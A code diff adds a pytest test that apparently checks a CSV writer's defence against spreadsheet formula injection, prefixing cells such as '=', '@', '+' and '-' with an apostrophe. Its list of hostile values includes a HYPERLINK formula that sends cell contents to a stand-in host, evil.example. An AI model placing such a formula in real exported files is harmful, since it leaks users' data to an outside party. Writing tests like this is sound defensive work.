@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 from pathlib import Path
@@ -155,3 +157,44 @@ def test_writing_into_a_missing_folder_is_a_transfer_error(tmp_path: Path):
     with pytest.raises(TransferError) as caught:
         write_table(tmp_path / "nowhere" / "p.csv", FileFormat.CSV, FIELDS, ROWS)
     assert "p.csv" in caught.value.message
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Details")',
+    "@SUM(1+1)",
+    "+1+1",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already marked",
+    "''@twice",
+    " =1+1",
+    "\n-1+1",
+]
+HARMLESS = ["'quoted but no formula", "'", "' ", "Saint-Étienne", "1+1", "3-1"]
+
+
+@pytest.mark.parametrize("delimiter", [",", ";"])
+def test_csv_cells_that_a_spreadsheet_would_run_are_marked_as_text(tmp_path: Path, delimiter: str):
+    """Each hostile value, read back as raw CSV text, starts with the apostrophe spreadsheets take
+    as "this is text" (OWASP's CSV injection advice); numbers from number fields are left as
+    numbers, a negative latitude included; and reading our own file gives every value back."""
+    values = HOSTILE + HARMLESS
+    rows = [{"id": str(index), "name": value, "latitude": -1.52, "capacity": -3, "languages": [value, "fr"]}
+            for index, value in enumerate(values)]
+    path = tmp_path / "partners.csv"
+    write_table(path, FileFormat.CSV, ["id", "name", "latitude", "capacity", "languages"], rows,
+                delimiter=delimiter)
+
+    text = path.read_bytes().decode("utf-8-sig")  # as written: a carriage return stays one
+    [_header, *cells] = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
+    for value, (_id, name, latitude, capacity, languages) in zip(values, cells, strict=True):
+        marked = value in HOSTILE
+        assert name == ("'" + value if marked else value), value
+        assert languages == ("'" if marked else "") + f"{value}; fr", value
+        assert (latitude, capacity) == ("-1.52", "-3")
+
+    read = read_rows(path)
+    assert [row.values["name"] for row in read] == values
+    assert [row.values["languages"] for row in read] == [f"{value}; fr" for value in values]
+    assert {row.values["latitude"] for row in read} == {"-1.52"}
